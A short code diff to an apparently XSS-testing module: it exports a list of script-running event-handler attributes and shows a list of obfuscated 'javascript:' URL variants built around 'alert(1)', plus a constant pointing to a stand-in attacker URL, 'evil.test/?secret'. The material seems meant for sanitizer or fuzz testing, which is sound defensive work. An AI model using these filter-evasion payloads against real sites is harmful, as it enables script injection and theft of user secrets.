@@ -5,7 +5,8 @@
 const RUN = 'alert(1)';
 const CALL = 'https://evil.test/?secret';
 
-const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin', 'onpointerenter'];
+/** Attributes that run their value. */
+export const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin', 'onpointerenter'];
 const URL_SCHEMES = [
   `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java&#10;script:${RUN}`, `java&Tab;script:${RUN}`, `&#106;avascript:${RUN}`,
   `&#x6A;avascript:${RUN}`, `javascript&colon;${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `javascript://%0a${RUN}`,
